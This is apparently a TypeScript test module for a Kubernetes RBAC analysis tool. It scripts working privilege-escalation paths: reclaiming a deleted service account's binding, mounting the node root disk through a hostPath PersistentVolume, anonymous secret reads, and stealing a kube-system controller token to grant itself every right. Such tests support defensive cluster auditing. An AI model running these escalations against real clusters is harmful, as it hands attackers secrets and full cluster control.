import { field } from '#test/cluster/client';
import { accepted, everyRule, mayEverything, merge, rbac, reads, soon, type Ask, type Walk } from './walk.ts';

const secret = (namespace: string) => ({ is: `Secret ${namespace}/db`, stringData: { key: 'value' } });
const readsDb = (ask: Ask, namespace: string): Promise<boolean> => reads(ask, `/api/v1/namespaces/${namespace}/secrets/db`);

const requestToken = async (ask: Ask, namespace: string, account: string): Promise<string | undefined> => {
  const answer = await ask('POST', `/api/v1/namespaces/${namespace}/serviceaccounts/${account}/token`, {
    apiVersion: 'authentication.k8s.io/v1',
    kind: 'TokenRequest',
    spec: {},
  });
  const token = field(answer.body, 'status', 'token');
  return typeof token === 'string' ? token : undefined;
};

const aggregator = 'clusterrole-aggregation-controller';

/** R35, R43, R51, R52: what the platform itself leaves open. */
export const platformWalks: readonly Walk[] = [
  {
    edge: 'CLAIM_ACCOUNT',
    name: 'makes the account that a binding has kept its rights for',
    to: ({ namespace }) => `sa:${namespace}/gone`,
    grants: ({ user, namespace }) => [
      { to: `sa:${namespace}/gone`, in: namespace, can: ['get secrets'] },
      { to: `user:${user}`, in: namespace, can: ['create serviceaccounts,serviceaccounts/token'] },
    ],
    objects: ({ namespace }) => [secret(namespace)],
    fix: { withoutGrant: 0 },
    walk: async walker => {
      const { ask, namespace } = walker;
      const account = { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'gone', namespace } };
      if (!(await accepted(() => ask('POST', `/api/v1/namespaces/${namespace}/serviceaccounts`, account)))) return false;
      const token = await requestToken(ask, namespace, 'gone');
      return token !== undefined && readsDb(walker.with({ token }), namespace);
    },
  },
  {
    edge: 'PV_CREATE',
    name: 'has a restricted namespace accept a pod with the node’s disk',
    to: () => 'nodes',
    grants: ({ user, namespace }) => [
      { to: `user:${user}`, can: ['create persistentvolumes'] },
      { to: `user:${user}`, in: namespace, can: ['create persistentvolumeclaims,pods'] },
    ],
    objects: ({ namespace }) => [
      { is: `Namespace ${namespace}`, metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } } },
    ],
    fix: { withoutGrant: 0 },
    walk: async ({ ask, cluster, id, namespace }) => {
      const size = { storage: '1Gi' };
      const volume = {
        apiVersion: 'v1',
        kind: 'PersistentVolume',
        metadata: { name: id },
        spec: { capacity: size, accessModes: ['ReadWriteOnce'], hostPath: { path: '/' }, storageClassName: id },
      };
      const claim = {
        apiVersion: 'v1',
        kind: 'PersistentVolumeClaim',
        metadata: { name: 'disk', namespace },
        spec: { accessModes: ['ReadWriteOnce'], resources: { requests: size }, storageClassName: id, volumeName: id },
      };
      const securityContext = {
        allowPrivilegeEscalation: false,
        capabilities: { drop: ['ALL'] },
        runAsNonRoot: true,
        seccompProfile: { type: 'RuntimeDefault' },
      };
      const pod = {
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name: 'reader', namespace },
        spec: {
          containers: [{ name: 'a', image: 'b', securityContext }],
          volumes: [{ name: 'disk', persistentVolumeClaim: { claimName: 'disk' } }],
        },
      };
      const path = `/api/v1/namespaces/${namespace}/persistentvolumeclaims`;
      return (
        (await accepted(
          () => ask('POST', '/api/v1/persistentvolumes', volume),
          () => ask('POST', path, claim),
          () => ask('POST', `/api/v1/namespaces/${namespace}/pods`, pod),
        )) && soon(async () => field((await cluster.api('GET', `${path}/disk`)).body, 'status', 'phase') === 'Bound', 20_000)
      );
    },
  },
  {
    edge: 'SECRET_READ_DIRECT',
    name: 'by nobody at all, where a binding says system:anonymous',
    from: () => 'user:system:anonymous',
    to: ({ namespace }) => `secret:${namespace}/db`,
    grants: ({ namespace }) => [{ to: 'user:system:anonymous', in: namespace, can: ['get secrets'] }],
    objects: ({ namespace }) => [secret(namespace)],
    fix: { withoutGrant: 0 },
    walk: walker => readsDb(walker.with({}), walker.namespace),
  },
  {
    edge: 'TOKEN_REQUEST',
    name: 'has every right by the token of a controller of kube-system',
    to: () => `sa:kube-system/${aggregator}`,
    grants: ({ user }) => [{ to: `user:${user}`, in: 'kube-system', can: [`create serviceaccounts/token named ${aggregator}`] }],
    objects: () => [`ServiceAccount kube-system/${aggregator}`],
    fix: { withoutGrant: 0 },
    walk: async walker => {
      const token = await requestToken(walker.ask, 'kube-system', aggregator);
      if (token === undefined) return false;
      const controller = walker.with({ token });
      if (await mayEverything(controller)) throw new Error('It has every right already.');
      const own = `${rbac}/clusterroles/system:controller:${aggregator}`;
      const rules = field((await walker.cluster.api('GET', own)).body, 'rules') as readonly object[];
      return (
        (await accepted(() => controller('PATCH', own, { rules: [...rules, everyRule] }, merge))) &&
        soon(() => mayEverything(controller))
      );
    },
  },
];
